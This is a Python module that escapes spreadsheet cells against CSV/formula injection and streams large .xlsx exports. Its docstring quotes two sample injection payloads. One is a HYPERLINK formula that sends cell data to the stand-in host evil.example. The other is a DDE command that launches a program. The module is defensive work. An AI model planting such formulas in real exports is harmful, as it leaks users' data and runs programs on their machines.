"""Text that spreadsheets must not run: the one rule against CSV/formula injection.

Excel, WPS and LibreOffice treat a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (and,
after a tab or a carriage return, whatever follows) as a formula. A unit named
``=HYPERLINK("http://evil.example/?x="&A1,"点击查看")`` in a file the product writes would become a
live link carrying the neighbouring cells to another site when an office opens the export; a
``@SUM(1+1)*cmd|' /C calc'!A0`` cell asks the spreadsheet to start a program (OWASP: CSV Injection).
Every text cell of user data written to an .xlsx or .csv file goes through `escape_formula`, and
what people type into names and codes is refused when `looks_like_formula` (core.validators).

Also the one .xlsx writer of large exports (`xlsx_sheet`): an .xlsx file is a zip of XML parts.
For one sheet of plain text, numbers and dates the parts are small and fixed except the sheet
itself, so the sheet's XML is written directly into a deflated zip entry, row by row: memory
stays constant whatever the number of rows, and no per-cell objects are made (openpyxl or
tablib take about ten times as long and hold the whole sheet). Repeated strings (labels, titles)
go to the shared strings table; dates are Excel serial numbers with a date format, as Excel
writes them. Used by campaign.export (obligations) and units.export (the unit register).
"""

import contextlib
import re
import zipfile
from xml.sax.saxutils import escape

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
DATE_STYLE = 1  # index into cellXfs of styles.xml below
# Rows gathered before each write into the zip entry.
ROWS_PER_WRITE = 5000

# The first characters that make a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(text):
    """Would a spreadsheet read `text` as a formula? True when it starts with one of FORMULA_PREFIXES."""
    return isinstance(text, str) and text.startswith(FORMULA_PREFIXES)


def escape_formula(value):
    """`value` made inert for a spreadsheet cell: text that looks like a formula gets a leading
    apostrophe, so that it is written, shown and re-read as the text it is (CSV/formula injection);
    anything else is returned unchanged."""
    if looks_like_formula(value):
        return "'" + value
    return value


# Characters XML 1.0 does not allow, which openpyxl and Excel refuse.
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")

_CONTENT_TYPES = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">\
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>\
<Default Extension="xml" ContentType="application/xml"/>\
<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>\
<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>\
<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>\
<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>\
<Override PartName="/docProps/app.xml" ContentType="application/vnd.openxmlformats-officedocument.extended-properties+xml"/>\
</Types>"""

_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_ROOT_RELS = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/>\
<Relationship Id="rId2" Type="{_REL}/extended-properties" Target="docProps/app.xml"/>\
</Relationships>"""

_APP = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">\
<Application>Microsoft Excel</Application></Properties>"""

_WORKBOOK = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" \
xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">\
<sheets><sheet name="{name}" sheetId="1" r:id="rId1"/></sheets></workbook>"""

_WORKBOOK_RELS = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>\
<Relationship Id="rId2" Type="{_REL}/styles" Target="styles.xml"/>\
<Relationship Id="rId3" Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/>\
</Relationships>"""

_STYLES = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">\
<numFmts count="1"><numFmt numFmtId="164" formatCode="yyyy-mm-dd hh:mm"/></numFmts>\
<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>\
<fills count="2"><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/></fill></fills>\
<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>\
<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>\
<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>\
<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>\
<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>\
</styleSheet>"""

_SHEET_START = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{cols}<sheetData>"""
_SHEET_END = "</sheetData></worksheet>"


# What XML must escape or drop: a text without any of it is written as it is (the usual case).
_NEEDS_ESCAPE = re.compile(r"[&<>\x00-\x08\x0b\x0c\x0e-\x1f]")


def xml_text(value):
    """`value` as XML character data: escaped, without the control characters XML forbids."""
    text = str(value)
    if _NEEDS_ESCAPE.search(text) is None:
        return text
    return escape(_ILLEGAL.sub("", text))


def inert_xml(value):
    """A cell's text from people as XML character data, inert (escape_formula) and escaped."""
    return xml_text(escape_formula(value))


class SharedStrings:
    """The workbook's table of repeated strings (titles, numbers, labels): index by text."""

    def __init__(self):
        self.index = {}

    def __call__(self, text):
        text = str(text)
        if text not in self.index:
            self.index[text] = len(self.index)
        return self.index[text]

    def xml(self):
        items = "".join(f'<si><t xml:space="preserve">{xml_text(text)}</t></si>' for text in self.index)
        return (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            f'count="{len(self.index)}" uniqueCount="{len(self.index)}">{items}</sst>'
        )


def shared_cell(column, row, index):
    return f'<c r="{column}{row}" t="s"><v>{index}</v></c>'




def text_cell(column, row, text):
    """An inline text cell; `text` is already XML (xml_text)."""
    return f'<c r="{column}{row}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'


class ExcelSerials:
    """Excel's serial number (as text) of aware datetimes, in the local time of `zone`: the zone's
    offset is looked up once per quarter of an hour (offsets change on the quarter hour at most),
    the rest is arithmetic on the timestamp."""

    UNIX_EPOCH_SERIAL = 25569  # 1970-01-01 in Excel's days

    def __init__(self, zone):
        self.zone = zone
        self.offsets = {}

    def __call__(self, value):
        stamp = value.timestamp()
        quarter = int(stamp // 900)
        offset = self.offsets.get(quarter)
        if offset is None:
            offset = self.offsets[quarter] = value.astimezone(self.zone).utcoffset().total_seconds()
        return repr((stamp + offset) / 86400 + self.UNIX_EPOCH_SERIAL)


def column_widths(widths):
    """The <cols> element for `widths`: [(first column, last column, width in characters)], 1-based."""
    if not widths:
        return ""
    cols = "".join(f'<col min="{first}" max="{last}" width="{width}" customWidth="1"/>' for first, last, width in widths)
    return f"<cols>{cols}</cols>"


class Sheet:
    """The worksheet being written: `strings` (the shared strings), `append(row_xml)` for each
    <row> element, in order."""

    def __init__(self, raw, strings):
        self.raw, self.strings, self.buffer = raw, strings, []

    def append(self, row_xml):
        self.buffer.append(row_xml)
        if len(self.buffer) >= ROWS_PER_WRITE:
            self.flush()

    def flush(self):
        if self.buffer:
            self.raw.write("".join(self.buffer).encode())
            self.buffer.clear()


@contextlib.contextmanager
def xlsx_sheet(target, sheet_name, widths=()):
    """A one-sheet workbook written into the binary file object `target`: yields the Sheet to
    append rows to; the workbook is complete when the block ends."""
    strings = SharedStrings()
    # The fastest deflate: the sheet is repetitive XML, level 1 already shrinks it about tenfold.
    with zipfile.ZipFile(target, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as book:
        book.writestr("[Content_Types].xml", _CONTENT_TYPES)
        book.writestr("_rels/.rels", _ROOT_RELS)
        book.writestr("docProps/app.xml", _APP)
        book.writestr("xl/workbook.xml", _WORKBOOK.format(name=xml_text(sheet_name)[:31]))
        book.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        book.writestr("xl/styles.xml", _STYLES)
        with book.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as raw:
            raw.write(_SHEET_START.format(cols=column_widths(widths)).encode())
            sheet = Sheet(raw, strings)
            yield sheet
            sheet.flush()
            raw.write(_SHEET_END.encode())
        book.writestr("xl/sharedStrings.xml", strings.xml())
